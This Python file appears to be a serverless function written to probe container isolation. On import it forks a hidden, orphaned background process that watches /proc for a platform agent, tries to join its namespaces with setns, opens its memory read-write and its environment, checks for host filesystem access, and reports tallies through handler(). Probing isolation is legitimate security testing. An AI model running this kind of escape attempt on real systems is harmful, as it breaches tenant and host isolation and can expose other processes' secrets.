"""A function whose zygote tries to get into every process that it sees, from its birth on."""
import ctypes
import json
import mmap
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
USERS, MOUNTS = 0x10000000, 0x00020000
shared = mmap.mmap(-1, 4096)  # what was found, for the forks to tell
FOUND = ("tries", "entered", "opened", "host")


def count(name):
    at = 8 * FOUND.index(name)
    struct.pack_into("q", shared, at, struct.unpack_from("q", shared, at)[0] + 1)


def is_agent(pid):
    try:
        return open(f"/proc/{pid}/comm").read().strip() == "containerservic"
    except OSError:
        return False


def look(pid):
    """Counts what is open of the agent, and of the host by way of it."""
    for path in ("root", "cwd"):
        if os.path.exists(f"/proc/{pid}/{path}{os.environ['MARKER']}"):
            count("host")
    for path, how in (("mem", os.O_RDWR), ("mem", os.O_RDONLY), ("environ", os.O_RDONLY), ("ns/mnt", os.O_RDONLY)):
        try:
            file = os.open(f"/proc/{pid}/{path}", how)
        except OSError:
            continue
        if path != "environ" or os.read(file, 1):
            count("opened")
        os.close(file)


def enter(known):
    """Goes on until it has entered one, which it can once."""
    handles = {}
    while True:
        for pid in {int(name) for name in os.listdir("/proc") if name.isdigit()} - known:
            if pid not in handles:
                try:
                    handles[pid] = os.pidfd_open(pid)
                except OSError:
                    known.add(pid)
        for pid, handle in list(handles.items()):
            if not is_agent(pid):
                os.close(handles.pop(pid))
                known.add(pid)
                continue
            count("tries")
            look(pid)
            if libc.setns(handle, USERS) == 0 or libc.setns(handle, MOUNTS) == 0:
                count("entered")
                libc.setns(handle, MOUNTS)
                if os.path.exists(os.environ["MARKER"]):
                    count("host")
                look(pid)
                return pid


def watch():
    known = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    while True:
        child = os.fork()
        if not child:
            os._exit(enter(known) & 0xFF)
        os.waitpid(child, 0)


if os.getuid() and not os.fork():
    if not os.fork():
        watch()
    os._exit(0)
if os.getuid():
    os.wait()  # the other one is nobody's child


def handler(event, context):
    return json.dumps(dict(zip(FOUND, struct.unpack_from("4q", shared))))
